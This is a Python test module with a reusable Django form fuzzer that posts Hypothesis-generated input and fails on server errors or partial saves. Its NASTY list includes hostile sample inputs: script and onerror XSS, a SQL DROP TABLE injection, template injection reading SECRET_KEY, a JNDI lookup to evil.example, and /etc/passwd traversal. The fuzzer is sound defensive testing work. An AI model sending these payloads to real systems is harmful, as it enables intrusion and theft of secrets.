"""Fuzz a form: post hypothesis-generated input and require a clean answer, never a 5xx,
and nothing half-saved when the form refuses the input.

Use it in any app's tests:

    from tests.security.fuzz import fuzz_form, hostile_text, hostile_email

    @pytest.mark.django_db
    def test_enquiry_form_survives_hostile_input(client):
        result = fuzz_form(
            client,
            "/cars/42/enquire/",
            {"name": hostile_text(), "email": hostile_email(), "message": hostile_text()},
            models=[Lead, Customer, OutboxMessage],
        )
        assert result.examples == 200

A response counts as accepted when `accepted(response)` says so (default: a redirect); for
every other response the row counts of `models`, the outbox of sent mail and `snapshot()`
(any extra state you name) must be exactly as before the request. Input mixes ordinary
text with NUL bytes, control and right-to-left characters, markup, SQL and template
injection, very long strings, repeated keys (lists) and missing fields.
"""

from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from django.core import mail
from django.db import models as django_models
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\r\nX-Injected: 1",
    "\u202eevil\u202c",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE accounts_user; --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "%s%s%s%n",
    "💥" * 50,
    "ß" * 300,
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "x" * 10_000,
]


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(max_size=max_size),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=max_size),
    )


def hostile_email() -> st.SearchStrategy[str]:
    return st.one_of(
        st.emails().map(str),
        hostile_text(),
        st.sampled_from(["a@b", "@example.com", "a@@example.com", "a@example.com\x00"]),
    )


def field_values(strategy: st.SearchStrategy[str]) -> st.SearchStrategy:
    """A value as a browser (or an attacker) may send it: one, several, or none at all."""
    return st.one_of(strategy, st.lists(strategy, min_size=2, max_size=3))


@dataclass
class FuzzResult:
    examples: int = 0
    accepted: int = 0
    statuses: dict[int, int] = field(default_factory=dict)


def _redirect(response) -> bool:
    return response.status_code in (301, 302, 303)


def fuzz_form(
    client,
    url: str,
    fields: dict[str, st.SearchStrategy],
    *,
    models: Iterable[type[django_models.Model]] = (),
    accepted: Callable[[object], bool] = _redirect,
    snapshot: Callable[[], object] = lambda: None,
    max_examples: int = 200,
    headers: dict[str, str] | None = None,
) -> FuzzResult:
    """POST generated input to `url` `max_examples` times; fail on a 5xx or a half-save.

    Every field may also be missing or repeated. Call it inside a pytest-django db test; the
    client carries whatever login the form needs. Returns how many examples ran and how the
    form answered, for the test to assert on.
    """
    models = list(models)
    result = FuzzResult()

    def state():
        return (
            [model._default_manager.count() for model in models],
            len(mail.outbox),
            snapshot(),
        )

    data_strategy = st.fixed_dictionaries(
        {}, optional={name: field_values(strategy) for name, strategy in fields.items()}
    )

    @settings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(data=data_strategy)
    def run(data):
        before = state()
        response = client.post(url, data, headers=headers or {})
        result.examples += 1
        result.statuses[response.status_code] = result.statuses.get(response.status_code, 0) + 1
        assert response.status_code < 500, f"{url} answered {response.status_code} to {data!r}"
        if accepted(response):
            result.accepted += 1
        else:
            assert state() == before, f"{url} refused {data!r} but changed something"

    run()
    return result
